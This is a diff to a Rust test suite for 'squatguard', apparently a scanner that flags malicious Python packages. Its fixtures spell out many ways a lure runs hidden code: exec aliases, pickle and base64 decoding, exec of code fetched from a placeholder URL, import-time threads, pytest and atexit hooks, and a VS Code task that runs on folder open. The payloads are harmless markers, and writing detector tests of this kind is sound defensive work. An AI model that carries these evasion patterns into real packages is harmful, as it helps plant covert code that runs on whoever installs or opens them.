@@ -239,6 +239,18 @@ fn findings(out: &Output) -> Vec<Value> {
     doc["findings"].as_array().unwrap().clone()
 }
 
+/// `scan --format json` of `root`, which must exit 1 (an error found): its findings.
+fn scan_failing(root: &Path) -> Vec<Value> {
+    let out = squatguard(root, &["scan", "--format", "json"]);
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    findings(&out)
+}
+
 fn line_of(root: &Path, file: &str, needle: &str) -> u64 {
     let text = std::fs::read_to_string(root.join(file)).unwrap();
     text.lines()
@@ -561,9 +573,7 @@ fn python_is_read_as_python_reads_it() {
         "latin.py",
         b"# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\n".as_slice(),
     );
-    let out = squatguard(root, &["scan", "--format", "json"]);
-    assert_eq!(out.status.code(), Some(1));
-    let all = findings(&out);
+    let all = scan_failing(root);
     assert_fires(&all, "decode-exec", "cr/__init__.py", 3, "error");
     assert_fires(&all, "obfuscation", "seven.py", 2, "error");
     assert_fires(&all, "decode-exec", "bold/__init__.py", 2, "error");
@@ -695,37 +705,26 @@ fn nothing_passes_unread() {
     write(root, "vendored/pyvenv.cfg", "home = /usr/bin\n");
     write(root, "vendored/pkg/__init__.py", &payload);
 
-    let out = squatguard(root, &["scan", "--format", "json"]);
-    assert_eq!(
-        out.status.code(),
-        Some(1),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    let all = findings(&out);
-    assert_fires(
-        &all,
-        "opaque-code",
-        "app/_speedups.cpython-311-x86_64-linux-gnu.so",
-        1,
-        "error",
-    );
-    assert_fires(&all, "opaque-code", "tools/helper.pyd", 1, "warning");
-    assert_fires(&all, "opaque-code", "app/tables.py", 1, "error");
-    assert_fires(
-        &all,
-        "decode-exec",
-        "lib/deps.zip/vendor/__init__.py",
-        2,
-        "error",
-    );
-    assert_fires(
-        &all,
-        "opaque-code",
-        "lib/deps.zip/vendor/_native.so",
-        1,
-        "warning",
-    );
+    let all = scan_failing(root);
+    for (rule, file, line, severity) in [
+        (
+            "opaque-code",
+            "app/_speedups.cpython-311-x86_64-linux-gnu.so",
+            1,
+            "error",
+        ),
+        ("opaque-code", "tools/helper.pyd", 1, "warning"),
+        ("opaque-code", "app/tables.py", 1, "error"),
+        ("decode-exec", "lib/deps.zip/vendor/__init__.py", 2, "error"),
+        (
+            "opaque-code",
+            "lib/deps.zip/vendor/_native.so",
+            1,
+            "warning",
+        ),
+    ] {
+        assert_fires(&all, rule, file, line, severity);
+    }
     let nb_line = line_of(root, "analysis.ipynb", "exec(");
     assert_fires(&all, "decode-exec", "analysis.ipynb", nb_line, "error");
     assert_fires(&all, "decode-exec", "bin/run", 3, "error");
@@ -748,4 +747,74 @@ fn nothing_passes_unread() {
         .any(|f| f["file"] == "third_party/site-packages/evil/__init__.py"));
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(stderr.contains("skipped 1 path"), "{stderr}");
+}
+
+/// The calls and entry points a lure uses to run its payload unseen, each in its own file:
+/// aliases of `exec`, `map(exec, ...)`, `runpy` of a file that is not Python, `pickle` of
+/// decoded data, `__import__('os')`, a decoded or downloaded command, a thread started at
+/// import, a guard that is not a main guard, pytest hooks, `atexit`, a default argument, and
+/// `exec(open(...).read())` of a data file. Payloads are harmless and never run.
+#[test]
+fn evasions_are_followed() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let hello = base64(b"print(\"hello\")");
+    let marker = "echo hello > /tmp/squatguard-marker";
+    let payload = format!("import base64\nexec(base64.b64decode(\"{hello}\"))\n");
+    let files: &[(&str, String)] = &[
+        ("alias/__init__.py", format!("_run = exec\nimport base64\n_run(base64.b64decode(\"{hello}\"))\n")),
+        ("mapped/__init__.py", format!("import base64\nlist(map(exec, [base64.b64decode(\"{hello}\")]))\n")),
+        ("tests/conftest.py", format!("import base64\n_c = compile\n_e = eval\n_e(_c(base64.b64decode(\"{hello}\"), \"x\", \"exec\"))\n")),
+        ("runner/__init__.py", "import runpy\nrunpy.run_path(\"LICENSE.txt\")\n".into()),
+        ("LICENSE.txt", payload.clone()),
+        ("pickled/__init__.py", format!("import base64, pickle\npickle.loads(base64.b64decode(\"{hello}\"))\n")),
+        ("imported/__init__.py", format!("__import__('os').system('{marker}')\n")),
+        ("shell/__init__.py", format!("import base64, os\nos.system(base64.b64decode(\"{}\"))\n", base64(marker.as_bytes()))),
+        ("fetched/__init__.py", "import requests\nexec(requests.get(\"https://example.invalid/x\").text)\nfrom urllib.request import urlopen\ncode = urlopen(\"https://example.invalid/y\").read()\nexec(code)\n".into()),
+        ("threaded/__init__.py", format!("import subprocess, threading\ndef _work():\n    subprocess.run(\"{marker}\", shell=True)\nthreading.Thread(target=_work).start()\n")),
+        ("notmain/__init__.py", format!("import os\nif __name__ != \"__main__\":\n    os.system(\"{marker}\")\n")),
+        ("hooks/conftest.py", format!("import subprocess\ndef pytest_configure(config):\n    subprocess.run(\"{marker}\", shell=True)\n")),
+        ("exiting/__init__.py", format!("import atexit, os\n@atexit.register\ndef _bye():\n    os.system(\"{marker}\")\n")),
+        ("default/__init__.py", format!("import os\ndef f(x=os.system(\"{marker}\")):\n    return x\n")),
+        ("data/__init__.py", "import os\nexec(open(os.path.join(os.path.dirname(__file__), \"blob.dat\")).read())\n".into()),
+        ("data/blob.dat", payload.clone()),
+        (".vscode/tasks.json", format!("{{\n  // opened, then run\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {{\n      \"label\": \"setup\",\n      \"command\": \"sh\",\n      \"args\": [\"-c\", \"{marker}\"],\n      \"runOptions\": {{ \"runOn\": \"folderOpen\" }},\n    }},\n  ],\n}}\n")),
+    ];
+    for (path, text) in files {
+        write(root, path, text);
+    }
+    let all = scan_failing(root);
+    for (rule, file, line, severity) in [
+        ("decode-exec", "alias/__init__.py", 3, "error"),
+        ("decode-exec", "mapped/__init__.py", 2, "error"),
+        ("decode-exec", "tests/conftest.py", 4, "error"),
+        ("import-time-code", "tests/conftest.py", 4, "error"),
+        ("decode-exec", "LICENSE.txt", 2, "error"),
+        ("decode-exec", "pickled/__init__.py", 2, "error"),
+        ("import-time-code", "imported/__init__.py", 1, "warning"),
+        ("decode-exec", "shell/__init__.py", 2, "error"),
+        ("decode-exec", "fetched/__init__.py", 2, "error"),
+        ("decode-exec", "fetched/__init__.py", 5, "error"),
+        ("import-time-code", "threaded/__init__.py", 4, "warning"),
+        ("import-time-code", "notmain/__init__.py", 3, "warning"),
+        ("import-time-code", "hooks/conftest.py", 2, "warning"),
+        ("import-time-code", "exiting/__init__.py", 3, "warning"),
+        ("import-time-code", "default/__init__.py", 2, "warning"),
+        ("decode-exec", "data/blob.dat", 2, "error"),
+        ("import-time-code", "data/blob.dat", 2, "error"),
+        ("import-time-code", ".vscode/tasks.json", 9, "error"),
+    ] {
+        assert_fires(&all, rule, file, line, severity);
+    }
+    let task = all
+        .iter()
+        .find(|f| f["file"] == ".vscode/tasks.json")
+        .unwrap();
+    assert!(
+        task["message"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("`sh -c {marker}`")),
+        "{task}"
+    );
 }
